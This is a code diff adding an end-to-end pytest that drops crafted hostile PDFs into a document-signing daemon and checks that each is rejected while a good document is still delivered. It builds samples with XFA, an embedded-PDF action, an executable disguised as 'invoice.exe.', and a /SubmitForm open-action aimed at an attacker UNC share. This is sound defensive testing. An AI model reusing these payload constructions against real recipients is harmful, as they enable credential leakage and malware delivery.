@@ -513,6 +513,33 @@ def test_refusals_through_the_worker_pool(ident: TestIdentity, tmp_path: Path) -
         pool.stop()
 
 
+@pytest.mark.e2e
+def test_the_daemon_refuses_each_attack_and_keeps_delivering(
+    ident: TestIdentity, tmp_path: Path
+) -> None:
+    """Dropped as a vendor would, into the real daemon: each attack gets its error file
+    (nothing signed or sent), and a good document dropped with them is delivered."""
+    from daemonutil import drop, running_daemon, sidecar, write_config
+
+    cases = {
+        "att-xfa": (build(xfa("stream", True)), "pdf-xfa"),
+        "att-gotoe": (build(embedded_pdf("link")), "pdf-embedded-pdf-action"),
+        "att-exe": (build(attachment(F=s("invoice.exe."))), "pdf-embedded-executable"),
+        "att-submit": (build(place("open-action", action(
+            "/SubmitForm", F=s("\\\\attacker.example\\share\\x")))), "pdf-remote-action"),
+    }
+    cfg = write_config(tmp_path / "practice", [(PC, ident)])
+    with running_daemon(cfg) as dm:
+        for i, (stem, (data, _)) in enumerate(cases.items()):
+            drop(dm.outbox, stem, data, sidecar(f"ATT-{i}", provider=PC))
+        drop(dm.outbox, "att-good", unsigned_pdf("good"), sidecar("ATT-GOOD", provider=PC))
+        for stem, (_, code) in cases.items():
+            st = dm.wait_outcome(stem)
+            assert (st["state"], st["reason"]) == ("rejected", code), (stem, st)
+            assert not (dm.inbox / f"{stem}.signed.pdf").exists()
+        assert dm.wait_outcome("att-good")["state"] == "delivered"
+        assert dm.alive()
+
 
 # -- the fast path never skips a refusal (property) ------------------------------------
 
